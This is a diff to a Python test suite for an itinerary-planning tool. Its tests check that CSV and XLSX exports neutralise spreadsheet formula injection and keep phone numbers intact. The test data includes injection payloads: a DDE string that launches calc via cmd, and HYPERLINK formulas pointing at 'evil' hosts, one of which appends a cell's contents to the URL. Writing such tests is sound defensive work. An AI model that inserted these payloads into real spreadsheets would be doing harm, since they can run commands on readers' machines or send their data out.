@@ -7,14 +7,17 @@ import datetime as dt
 import io
 import zipfile
 from dataclasses import fields
+from pathlib import Path
 from zoneinfo import ZoneInfo
 
 import openpyxl
 import openpyxl.worksheet._writer
 import pytest
-from conftest import example_plan
+from conftest import GOLDEN, example_plan
 from openpyxl.utils import get_column_letter
+from typer.testing import CliRunner
 
+from itinerary.cli import app
 from itinerary.input.spec import Contact
 from itinerary.plan import EndItem, Item, Plan, StartItem, TravelItem, Unscheduled, VisitItem
 from itinerary.render import RenderOptions, render
@@ -24,7 +27,16 @@ from itinerary.render.terminal import score_line
 from itinerary.render.xlsx_export import sheet_title
 
 EXAMPLE_NAMES = ("its-owl-week", "limoges-symposium")
-INJECTIONS = ('=HYPERLINK("http://evil")', "+1", "-2", "@SUM(A1)", "\t=1", "\r=1")
+INJECTIONS = (
+    '=HYPERLINK("http://evil")',
+    "+A1",
+    "-2+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+)
+# Not formulas: a spreadsheet shows them as they are, so they are written as they are.
+PHONES_AND_NUMBERS = ("+49 521 106-0", "-", "+33 (0)5 55 00 00 00", "-2.5", "-2,5", "+1/555.0100")
 
 
 @pytest.fixture(scope="module")
@@ -88,9 +100,18 @@ def test_formula_starts_get_an_apostrophe(text: str) -> None:
     assert neutralise_formula(text) == "'" + text
 
 
-@pytest.mark.parametrize("text", ["Ceradrop", "a=b", " =1", "", "'quoted", "12"])
+@pytest.mark.parametrize(
+    "text", ["Ceradrop", "a=b", " =1", "", "'quoted", "12", *PHONES_AND_NUMBERS]
+)
 def test_other_text_is_unchanged(text: str) -> None:
     assert neutralise_formula(text) == text
+
+
+@pytest.mark.parametrize("text", ["+1 A", "-1:2", "+1*2", "-2%", "+1e5", "-\t1", "+1\n=2"])
+def test_a_sign_followed_by_anything_but_a_number_is_neutralised(text: str) -> None:
+    # Letters (functions, references, DDE), ":" (a range), operators beyond + and -, a tab or
+    # a line break: not a phone number, so it gets the apostrophe.
+    assert neutralise_formula(text) == "'" + text
 
 
 # --- csv -----------------------------------------------------------------------------------
@@ -268,10 +289,14 @@ def test_xlsx_formulas_are_inert_strings(plans) -> None:
     expected = {"name": name, "address": address, "contact": contact, "phone": phone}
     expected |= {"id": visit_id, "email": email}
     for column, text in expected.items():
+        # A string cell, never run, so shown exactly as written: no apostrophe to see.
         assert cells[column].data_type == "s"
-        assert cells[column].value == "'" + text.replace("\r", "\n")  # Excel breaks lines with LF
+        assert cells[column].value == text.replace("\r", "\n")  # Excel breaks lines with LF
     trip = book[Words("fr")["overview"]]["B1"]
-    assert (trip.data_type, trip.value) == ("s", "'=1+1")
+    assert (trip.data_type, trip.value) == ("s", "=1+1")
+    with zipfile.ZipFile(io.BytesIO(render(plan, "xlsx"))) as archive:
+        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
 
 
 def test_xlsx_replaces_control_characters_it_cannot_store(plans) -> None:
@@ -351,3 +376,73 @@ def test_json_is_the_plan_as_it_is(plans, example) -> None:
     content = render(Plan.from_json(text), "json", RenderOptions(lang="de", audience="delegation"))
     assert content == text.encode()
     assert Plan.from_json(content) == plan
+
+
+# --- through the command line: what a spreadsheet shows ------------------------------------
+
+SAVED = GOLDEN / "limoges-plan.json"  # a real, checked plan; exports never plan again
+PHONE = "+49 521 106-0"
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Ceradrop")'
+
+
+def export_cli(plan: Plan, tmp_path: Path, fmt: str, *options: str) -> bytes:
+    """`plan` saved as JSON and exported by `itinerary export`; the file's bytes."""
+    saved = tmp_path / "plan.json"
+    saved.write_text(plan.to_json(), encoding="utf-8")
+    out = tmp_path / f"plan.{fmt}"
+    result = CliRunner().invoke(
+        app, ["export", str(saved), "--format", fmt, "--out", str(out), "--force", *options]
+    )
+    assert result.exit_code == 0, result.output
+    return out.read_bytes()
+
+
+def with_phone_and_formula(plan: Plan) -> Plan:
+    contact = Contact(name="Anna Schmidt", phone=PHONE, email="a@example.org")
+    return with_first_visit(plan, name=FORMULA, contact=contact)
+
+
+def test_csv_keeps_a_phone_number_and_neutralises_a_formula(tmp_path: Path) -> None:
+    plan = with_phone_and_formula(Plan.from_json(SAVED.read_bytes()))
+    body = read_csv(export_cli(plan, tmp_path, "csv"))[1:]
+    visit = dict(zip(COLUMNS, body[first_visit_index(plan)], strict=True))
+    assert visit["phone"] == PHONE  # read back by the csv module exactly as written
+    assert visit["name"] == "'" + FORMULA  # shown by a spreadsheet, never run
+    phones = [dict(zip(COLUMNS, row, strict=True))["phone"] for row in body]
+    assert all(not p.startswith("'") for p in phones)
+
+
+def test_xlsx_keeps_a_phone_number_and_a_formula_as_plain_strings(tmp_path: Path) -> None:
+    plan = with_phone_and_formula(Plan.from_json(SAVED.read_bytes()))
+    book = read_xlsx(export_cli(plan, tmp_path, "xlsx"))
+    day = book[plan.tracks[0].date.isoformat()]
+    row = list(day.iter_rows(min_row=2))[first_visit_index(plan)]
+    cells = dict(zip(COLUMNS, row, strict=True))
+    assert (cells["phone"].data_type, cells["phone"].value) == ("s", PHONE)
+    assert (cells["name"].data_type, cells["name"].value) == ("s", FORMULA)
+    values = [c.value for ws in book for r in ws.iter_rows() for c in r]
+    assert not [v for v in values if isinstance(v, str) and v.startswith("'")]
+
+
+@pytest.mark.parametrize(
+    ("lang", "whole"),
+    [("en", "whole delegation"), ("de", "gesamte Delegation"), ("fr", "toute la délégation")],
+)
+def test_group_and_ids_read_in_the_readers_language(tmp_path: Path, lang: str, whole: str) -> None:
+    plan = Plan.from_json(SAVED.read_bytes())
+    rows = [
+        dict(zip(COLUMNS, row, strict=True))
+        for row in read_csv(export_cli(plan, tmp_path, "csv", "--lang", lang))[1:]
+    ]
+    assert {row["group"] for row in rows} == {whole}
+    ids = {row["id"] for row in rows}
+    assert not ids & {"all", "arrival", "departure"}
+    # The organiser's own ids stay as in the visit file, to join sheets and mail merges on.
+    assert {"ceradrop", "symposium"} <= ids
+    first, last = rows[0], rows[-1]
+    assert (first["id"], first["name"]) == ("", "Gare de Limoges-Bénédictins")  # the arrival
+    assert (last["id"], last["name"]) == ("", "Gare de Limoges-Bénédictins")  # the departure
+    book = read_xlsx(export_cli(plan, tmp_path, "xlsx", "--lang", lang))
+    day = book[plan.tracks[0].date.isoformat()]
+    column = COLUMNS.index("group") + 1
+    assert {day.cell(r, column).value for r in range(2, day.max_row + 1)} == {whole}
